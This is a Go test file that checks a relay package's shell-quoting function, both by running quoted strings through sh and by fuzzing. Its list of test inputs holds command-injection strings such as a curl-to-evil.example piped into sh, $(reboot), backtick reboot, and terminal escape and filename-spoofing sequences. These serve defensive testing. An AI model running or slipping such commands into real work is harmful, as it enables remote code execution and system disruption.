package relay_test

import (
	"os/exec"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/outbox-relay/outbox-relay/relay"
)

// hostile are texts that do harm where they are not quoted.
var hostile = []string{
	"", "orders", "it's", "''", `'\''`, `$HOME "x" \ ; *`, "x'; curl evil.example | sh; echo '", "$(reboot)", "`reboot`", "-rf", "!!",
	"a\nreboot", "a\r\nreboot\n", "\x1b[2J\x1b]0;title\a", "a\x00b", "\u202egpj.exe", "é世界", "\xff\xfe", "' \n\\! reboot\n'",
}

func TestShellReadsBackWhatWasQuoted(t *testing.T) {
	for _, text := range hostile {
		want := relay.OneLine(text)
		out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf %s "+relay.ShellQuote(text)).Output()
		if err != nil || string(out) != want {
			t.Errorf("%q is read as %q (%v), want %q", text, out, err, want)
		}
	}
}

// FuzzShellQuote reads the word back as a shell does, which knows in single quotes
// nothing but their end.
func FuzzShellQuote(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		quoted := relay.ShellQuote(text)
		var word strings.Builder
		rest := quoted
		for rest != "" {
			switch {
			case strings.HasPrefix(rest, `\'`):
				word.WriteByte('\'')
				rest = rest[2:]
			case rest[0] == '\'':
				inside, after, closed := strings.Cut(rest[1:], "'")
				if !closed {
					t.Fatalf("%q leaves a quote open: %s", text, quoted)
				}
				word.WriteString(inside)
				rest = after
			default:
				t.Fatalf("%q has something outside the quotes: %s", text, quoted)
			}
		}
		if word.String() != relay.OneLine(text) {
			t.Errorf("%q is read as %q", text, word.String())
		}
		demandOneLine(t, quoted)
		if utf8.ValidString(text) && !strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) && word.String() != text {
			t.Errorf("%q came out as %q", text, word.String())
		}
	})
}

func demandOneLine(t *testing.T, text string) {
	t.Helper()
	if strings.ContainsFunc(text, func(r rune) bool { return unicode.IsControl(r) || !unicode.IsPrint(r) }) {
		t.Errorf("%q has control characters", text)
	}
}
